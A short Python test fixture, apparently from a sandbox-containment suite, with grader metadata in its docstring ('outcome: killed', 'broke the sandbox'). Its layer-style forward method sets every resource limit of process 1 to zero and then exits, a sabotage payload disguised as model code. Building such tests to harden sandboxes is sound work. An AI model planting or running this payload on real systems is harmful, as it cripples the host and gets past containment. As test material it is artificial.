"""Take every limit of the sandbox's server down to nothing, then leave.

earns: CenteredLayer
outcome: killed
says: broke the sandbox|status 0
levels: bubblewrap uid
"""

import contextlib
import os
import resource


class MyLinear(MyLinear):
    def forward(self, x):
        for name in dir(resource):
            if name.startswith("RLIMIT_"):
                with contextlib.suppress(OSError, PermissionError, ValueError):
                    resource.prlimit(1, getattr(resource, name), (0, 0))
        os._exit(0)
